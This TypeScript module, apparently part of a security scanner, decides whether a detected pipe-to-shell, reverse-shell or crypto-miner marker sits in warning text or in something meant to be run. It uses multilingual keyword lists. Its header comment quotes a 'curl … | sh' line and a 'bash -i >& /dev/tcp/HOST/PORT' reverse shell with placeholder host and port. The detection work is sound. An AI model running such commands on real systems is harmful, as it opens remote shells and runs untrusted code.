/**
 * Security advice says the same words as an attack: "never pipe `curl … | sh`", "attackers
 * open a reverse shell with `bash -i >& /dev/tcp/HOST/PORT`", "look for xmrig processes".
 * A marker in a plain string (not a description: those are read by the model as instructions)
 * counts as advice when the text warns or teaches, and it neither tells the reader to run the
 * command nor, for shells and miners, carries a real address to reach.
 */
import type { MarkerHit } from './markers.ts';
import { normalise } from './markers.ts';
import { hasTarget } from './tool-description.ts';

const WARNINGS = [
  'risk',
  'danger',
  'unsafe',
  'not safe',
  'safe?',
  'insecure',
  'never',
  'avoid',
  'blindly',
  'without reading',
  'read it first',
  'read it before',
  'before running it',
  'careful',
  'warning',
  'bad idea',
  'bad practice',
  'attacker',
  'malware',
  'look for',
  'check for',
  "don't run",
  'do not run',
  'nunca',
  'no ejecutes',
  'sin leer',
  'niemals',
  'ohne das skript',
  'jamais',
  'sans le lire',
  'évite',
  'evita',
  'vermeide',
];

/** Verbs that tell the reader to run what follows (any language the corpus has seen). */
const RUN_VERBS = [
  'run',
  'execute',
  'paste',
  'type',
  'enter',
  'install',
  'ejecuta',
  'exécutez',
  'exécute',
  'führe',
  'esegui',
  'lance',
  'lancez',
];
const NEGATIONS = [
  'never',
  "don't",
  'do',
  'not',
  'no',
  'nunca',
  'niemals',
  'nicht',
  'jamais',
  'ne',
  'non',
];

/** A run verb among the three words before `at` that no negation word precedes. */
function toldToRun(t: string, at: number): boolean {
  const words = t
    .slice(Math.max(0, at - 60), at)
    .split(/[^a-zäöüéèàíóúñ']+/)
    .filter(Boolean)
    .slice(-4);
  for (let i = 0; i < words.length; i++) {
    if (!RUN_VERBS.includes(words[i]!)) continue;
    // "never run", "do not run", and "führe niemals … aus" (the negation after the verb).
    const near = [...words.slice(Math.max(0, i - 2), i), words[i + 1] ?? ''];
    if (!near.some((w) => NEGATIONS.includes(w))) return true;
  }
  return false;
}

/** Whether the marker `hit` sits in advice text rather than in something meant to be run. */
export function isAdvice(text: string, hit: MarkerHit): boolean {
  if (hit.kind !== 'pipe-to-shell' && hit.kind !== 'reverse-shell' && hit.kind !== 'miner')
    return false;
  const t = normalise(text).replaceAll('’', "'");
  if (!WARNINGS.some((w) => t.includes(w))) return false;
  const at = t.indexOf(hit.marker);
  if (hit.kind === 'pipe-to-shell') return at >= 0 && !toldToRun(t, at);
  // A reverse shell or miner with a real address or pool is a payload, however it is framed.
  return !hasTarget(t) && !t.includes('stratum');
}
